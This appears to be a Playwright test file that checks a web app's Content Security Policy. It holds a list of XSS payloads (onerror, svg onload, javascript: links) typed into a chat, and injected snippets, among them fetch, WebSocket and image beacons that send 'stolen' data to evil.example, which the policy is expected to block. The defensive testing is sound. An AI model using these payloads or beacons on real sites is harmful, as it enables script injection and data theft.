"""The page under the policy that it is served with: everything works, and what somebody slipped in does not."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, Playwright, expect

from browser.chromium import chromium
from browser.learner import SCENARIO, end_call, lines, open_review, type_message
from kit.server import Server

pytestmark = pytest.mark.browser

NOTE_VIOLATIONS = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (event) =>
  violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
PAYLOADS = (
    "<img src=x onerror=\"window.ran='img'\">",
    "<script>window.ran='script'</script>",
    "<svg/onload=window.ran='svg'>",
    "[a](javascript:window.ran='link') {{window.ran}} ${window.ran='template'}",
)


@pytest.fixture
def page(playwright: Playwright, typed_server: Server) -> Iterator[Page]:
    with chromium(playwright) as browser:
        page = browser.new_context().new_page()
        page.add_init_script(NOTE_VIOLATIONS)
        page.goto(typed_server.url)
        yield page


def violations(page: Page) -> Any:
    return page.evaluate("() => violations")


def test_a_call_and_its_review_need_nothing_that_the_policy_forbids(page: Page) -> None:
    page.get_by_test_id(f"scenario-card-{SCENARIO}").click()
    page.get_by_test_id("start-call").click()  # with a microphone: worklets and sound
    expect(page.locator('[data-testid="state"][data-state="listening"]')).to_be_attached(timeout=30_000)
    for payload in PAYLOADS:
        type_message(page, payload)
        page.wait_for_function(
            "text => [...document.querySelectorAll('*')].some(e => e.textContent === text)", arg=payload
        )
    assert [line for line in lines(page, "user") if line in PAYLOADS] == list(PAYLOADS)
    assert page.evaluate("() => window.ran") is None
    end_call(page)
    open_review(page)
    assert page.evaluate("() => window.ran") is None
    page.get_by_test_id("delete-call").click()
    expect(page.get_by_test_id("confirm-delete")).to_be_visible()
    assert page.evaluate("() => getComputedStyle(document.body).overflow") == "hidden"  # what is behind it stands still
    page.get_by_test_id("confirm-delete").click()
    expect(page.locator("[data-sonner-toast]")).to_be_visible()
    assert page.evaluate("() => getComputedStyle(document.querySelector('[data-sonner-toaster]')).position") == "fixed"
    assert violations(page) == []


@pytest.mark.parametrize(
    ("directive", "deed"),
    [
        ("script-src-elem", "document.body.append(Object.assign(document.createElement('script'), {text: 'ran = 1'}))"),
        ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"ran = 1\">')"),
        (
            "script-src-elem",
            "document.body.append(Object.assign(document.createElement('script'), {src: 'data:,ran=1'}))",
        ),
        ("script-src", "setTimeout('ran = 1')"),
        (
            "style-src-elem",
            "document.head.append(Object.assign(document.createElement('style'), {textContent: '*{}'}))",
        ),
        ("style-src-attr", "document.body.setAttribute('style', 'color: red')"),
        ("connect-src", "fetch('https://evil.example/?stolen').catch(() => 0)"),
        ("connect-src", "new WebSocket('wss://evil.example/')"),
        ("img-src", "new Image().src = 'https://evil.example/?stolen'"),
        ("media-src", "new Audio('https://evil.example/a.wav').load()"),
        (
            "frame-src",
            "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example'}))",
        ),
        ("object-src", "document.body.append(Object.assign(document.createElement('object'), {data: '/favicon.svg'}))"),
        (
            "base-uri",
            "document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example'}))",
        ),
        ("worker-src", "try { new Worker('data:text/javascript,1') } catch {}"),
        ("form-action", "document.body.appendChild(document.createElement('form')).submit()"),
    ],
)
def test_what_somebody_slips_in_is_stopped(page: Page, directive: str, deed: str) -> None:
    page.evaluate(deed)
    page.wait_for_function("directive => violations.some(one => one.startsWith(directive + ' '))", arg=directive)
    assert page.evaluate("() => window.ran") is None


def test_no_other_site_may_frame_the_page(playwright: Playwright, typed_server: Server) -> None:
    with chromium(playwright) as browser:
        page = browser.new_context().new_page()
        page.goto("data:text/html,<p>elsewhere")
        page.set_content(f'<iframe src="{typed_server.url}"></iframe>')
        frame = page.frames[-1]
        frame.wait_for_load_state()
        assert frame.locator("#root").count() == 0
